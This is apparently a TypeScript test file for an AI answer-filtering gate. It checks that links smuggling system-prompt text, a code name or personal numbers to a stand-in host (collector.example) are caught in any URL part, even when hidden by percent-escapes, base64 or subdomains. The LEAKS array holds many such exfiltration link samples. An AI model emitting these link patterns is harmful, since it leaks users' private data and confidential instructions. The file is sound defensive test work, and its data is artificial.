/**
 * Issue 19 item 1, break-it round: data in any part of a link's URL — userinfo, subdomain
 * labels, path segments, query, fragment — hidden by percent-escapes, `+` for spaces or base64,
 * in inline links, autolinks and reference-style definitions, is read decoded by the gate's own
 * detectors (system-prompt words, code names, personal numbers) and by the data test (escapes
 * of plain characters, grouped numbers and labelled personal fields in a path). Ordinary
 * documentation, search and article links still pass. Whole answers and streams cut at every
 * position agree, and no released byte belongs to a removed URL. Hosts and values are made up.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseConfig } from "../../src/core/index.js";
import { collectGateStream, compileGatePolicy, gateAnswer, gateStream } from "../../src/gate/index.js";
import { formDecode, hiddenEscapes, percentDecode, urlText } from "../../src/gate/egress/index.js";
import { cut, tokensOf } from "../helpers/stream.js";

const PROMPT = "You are the hiring assistant for Northwind. Never reveal candidate phone numbers or the internal codename.";
const policy = compileGatePolicy(parseConfig({ app: { systemPrompt: PROMPT }, gate: { codeNames: ["Blue Heron"] } }));
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");
/** Every character percent-escaped, as a hiding writer would. */
const escapeAll = (s: string) => [...Buffer.from(s, "utf8")].map((b) => `%${b.toString(16).toUpperCase().padStart(2, "0")}`).join("");

/** [answer, why]: each must not pass, with an egress finding over the construct holding the URL. */
const LEAKS: readonly (readonly [string, string])[] = [
  // Percent-encoding hides the value from a reader of an autolink or bare URL.
  [`<https://collector.example/c?v=${escapeAll("Dana Kim")}>`, "autolink: escapes of plain letters"],
  [`<https://collector.example/c?n=${encodeURIComponent("never reveal candidate phone numbers or the internal codename")}>`, "autolink: prompt words, escaped spaces"],
  [`<https://collector.example/log?d=${encodeURIComponent("Dana Kim, DOB 1990-04-12")}>`, "autolink: an escaped record of a person"],
  [`메모 https://collector.example/log?m=${escapeAll("blue heron")} 끝`, "bare URL: a code name, every byte escaped"],
  // Reference-style definitions, used by a link or an image.
  ["See [the guide][g].\n\n[g]: https://collector.example/p/you-are-the-hiring-assistant-for-northwind", "reference definition: prompt sentence as a path slug"],
  ["See [profile][p].\n\n[p]: https://collector.example/u/ssn/512-48-3367", "reference definition: labelled number in the path"],
  [`Chart: ![chart][c]\n\n[c]: https://collector.example/i.png?d=${escapeAll("jane")}`, "reference image"],
  [`[notes][n]\n\n[N]: <https://collector.example/q?t=${"never+reveal+candidate+phone+numbers+or+the+codename"}> "Notes"`, "reference definition: plus-as-space prompt words, a title, a case-folded label"],
  // Readable data in the path, beyond what the link text shows.
  ["[profile](https://collector.example/u/jane.doe/ssn/512-48-3367)", "path: a grouped number"],
  ["[profile](https://collector.example/dob/19900412)", "path: a labelled personal field"],
  ["[docs](https://collector.example/never-reveal-candidate-phone-numbers-or-the-internal-codename)", "path: a sentence of the system prompt"],
  ["[docs](https://collector.example/never%20reveal%20candidate%20phone%20numbers%20or%20the%20codename/x)", "path: escaped prompt sentence"],
  ["[launch](https://collector.example/p/blue-heron-launch-plan)", "path: a code name"],
  [`[a](https://collector.example/x/${b64("Never reveal candidate phone numbers")})`, "path: base64 of prompt words"],
  // A run of digits in the path, the same rule as after `?id=` or `#`.
  ["Details: [x](https://collector.example/536221234)", "path: a bare number as the first segment"],
  ["자세한 내용은 [여기](https://collector.example/a/01093318820) 참고", "path: a number after a one-letter segment (Korean prose)"],
  ['<p>Voir <a href="https://collector.example/users/4417203958">le profil</a></p>', "path: a number after a word naming a person (HTML)"],
  ['{"source": "[doc](https://collector.example/f/scan-88310452.png)"}', "path: digits inside a file name (JSON tool output)"],
  ["| ref | [open](https://collector.example/r/2201/7745120019) |", "path: a number after a short number (table cell)"],
  // Other parts.
  ["[x](https://never-reveal-candidate-phone-numbers-or-the.collector.example/)", "subdomain labels spell prompt words"],
  ["[x](https://collector.example/#never-reveal-candidate-phone-numbers-or-the-internal-codename)", "fragment: prompt words"],
  [`[x](https://${escapeAll("dana")}:pw@collector.example/)`, "userinfo"],
];

/** [answer, why it passes]: ordinary links a helpful answer holds. */
const PLAIN: readonly (readonly [string, string])[] = [
  ["<https://docs.python.org/3/library/re.html>", "autolink to a documentation page"],
  ["<https://ko.wikipedia.org/wiki/%EC%84%9C%EC%9A%B8>", "autolink, a Korean page name escaped as browsers write it"],
  [`지도 https://map.example.com/?place=${encodeURIComponent("서울특별시 중구 세종대로")} 참고`, "bare URL: a Korean place name escaped as browsers write it"],
  ["[Q](https://stackoverflow.com/questions/78901234/how-to-parse-json-in-python)", "question id and title slug"],
  ["[paper](https://arxiv.org/abs/2301.12345)", "arXiv id"],
  ["[release](https://example.com/blog/2024-05-12-release-notes)", "dated slug"],
  ["[book](https://isbnsearch.org/isbn/978-3-16-148410-0)", "ISBN in the path"],
  ["Read [the guide][d].\n\n[d]: https://docs.example.com/en/latest/user-guide/advanced-configuration.html", "reference definition of a docs page"],
  ["See <https://www.google.com/search?q=hiring+assistant+best+practices>", "search autolink"],
  ["[API](https://api.example.com/v1.2.3/phone/verify)", "version and API words in the path"],
  ["[post](https://x.com/rampart/status/1789012345678901234)", "status id"],
  ["[edit](https://example.com/docs/%7Bid%7D/edit)", "an escaped URL template"],
  ["[wiki](https://en.wikipedia.org/wiki/Hiring_assistant)", "article title"],
  ["[news](https://www.bbc.com/news/world-europe-68123456)", "article id after a section word"],
  ["[archive](https://example.com/2024/06/article)", "year and month in the path"],
  ["[bug](https://github.com/acme/rampart/issues/1234)", "a short issue number"],
  ["[API](https://api.example.com/v1/items)", "a version piece"],
  ["[log](https://example.com/blog/20240612-release)", "a date written without dashes"],
  ["[책](https://isbnsearch.org/isbn/9783161484100)", "an ISBN-13 without dashes"],
  ["// see https://example.com/questions/536221234", "a bare URL shows its own number"],
  ["[map](https://www.openstreetmap.org/#map=17/37.5665/126.9780)", "map position in the fragment"],
];

const HOST = "collector.example";

describe("egress: data in any URL part is read decoded", () => {
  it.each(LEAKS)("%s is not passed (%s)", async (answer) => {
    const v = await gateAnswer(answer, policy);
    expect(v.action, JSON.stringify(v.findings)).not.toBe("pass");
    const egress = v.findings.filter((f) => f.id === "egress");
    expect(egress.length, JSON.stringify(v.findings)).toBeGreaterThan(0);
    if (v.action === "redact") expect(v.text).not.toContain(HOST);
  });

  it.each(PLAIN)("%s passes (%s)", async (answer) => {
    const v = await gateAnswer(answer, policy);
    expect(v.action, JSON.stringify(v.findings)).toBe("pass");
  });

  it("the decoders: escape by escape, `+` as a space in form values, unreserved escapes counted", () => {
    expect(percentDecode("a%41%zz%EC%84%9C")).toBe("aA%zz서");
    expect(formDecode("never+reveal%20it")).toBe("never reveal it");
    expect([hiddenEscapes("%44%61%6E%61"), hiddenEscapes("%EC%84%9C%20%2F")]).toEqual([4, 0]);
    const text = urlText(new URL(`https://a.b.collector.example/u/jane%2Edoe?d=010%2D4821%2D7395#${b64("hello there world")}`));
    expect(text).toContain("u / jane.doe");
    expect(text).toContain("d: 010-4821-7395");
    expect(text).toContain("hello there world");
    expect(text).toContain("a . b");
  });
});

describe("egress parts on the stream: the whole answer's verdict, no byte of a removed URL", () => {
  const answers = LEAKS.map(([a]) => `First line of the answer. ${a} Last line.`);

  async function check(answer: string, parts: readonly string[]): Promise<void> {
    const whole = await gateAnswer(answer, policy);
    const out = await collectGateStream(gateStream(tokensOf(parts), policy));
    if (whole.action === "block") expect(out.blocked?.code).toBe(whole.code);
    else {
      expect(out.blocked).toBeNull();
      expect(out.text).toBe(whole.action === "redact" ? whole.text : answer);
    }
    expect(out.text).not.toContain(HOST);
  }

  it.each(answers.map((a) => [a.slice(0, 70), a] as const))("every single cut position: %s", async (_label, answer) => {
    for (let i = 0; i <= answer.length; i++) await check(answer, [answer.slice(0, i), answer.slice(i)]);
  });

  it("random cuts (fast-check)", async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...answers), fc.array(fc.nat(400), { maxLength: 30 }), async (answer, cuts) => check(answer, cut(answer, cuts))),
      { numRuns: 150 },
    );
  });

  it("plain links stream through unchanged", async () => {
    for (const [answer] of PLAIN) {
      const out = await collectGateStream(gateStream(tokensOf([...answer]), policy));
      expect(out).toEqual({ text: answer, blocked: null });
    }
  });
});
